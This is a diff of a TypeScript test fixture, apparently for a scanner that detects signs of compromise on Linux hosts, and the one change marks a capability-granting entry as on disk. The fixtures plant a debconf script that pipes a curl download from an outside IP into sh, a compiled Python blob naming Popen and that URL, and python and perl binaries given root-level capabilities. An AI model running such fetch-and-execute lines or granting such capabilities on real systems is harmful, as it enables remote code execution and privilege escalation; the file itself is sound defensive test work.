@@ -37,7 +37,7 @@ export const fifthLeftovers: readonly Sign[] = [
 	file('module-xz', 'files', 'a packed module of no package', '/usr/lib/modules/6.1.0-40-amd64/kernel/net/nf_help.ko.xz', Buffer.concat([Buffer.from('fd377a585a000004', 'hex'), Buffer.alloc(600, 7)])),
 	file('pyc-alone', 'files', 'compiled Python without a source', '/usr/lib/python3/dist-packages/netutil.pyc', Buffer.concat([Buffer.from('a70d0d0a0000000000000000', 'hex'), Buffer.from('subprocess\0Popen\0http://203.0.113.9/k')])),
 	file('debconf', 'packages', 'a packaged script that others read', '/usr/share/debconf/confmodule', '#!/bin/sh\n(curl -s 203.0.113.9/k|sh) &\n'),
-	{ id: 'capability-python', family: 'files', what: 'python that may become root', plant: tree => tree.capability('/usr/bin/python3.11', 'cap_setuid+ep'), names: ['/usr/bin/python3.11'] },
+	{ id: 'capability-python', family: 'files', what: 'python that may become root', plant: tree => tree.capability('/usr/bin/python3.11', 'cap_setuid+ep'), names: ['/usr/bin/python3.11'], onDisk: true },
 	{ id: 'capability-own', family: 'files', what: 'a copy of perl with the rights of root', plant: tree => {
 		tree.copy('/usr/bin/perl', '/usr/local/lib/report/spool2', { mode: 0o755 });
 		tree.capability('/usr/local/lib/report/spool2', 'cap_dac_override,cap_setuid+ep');
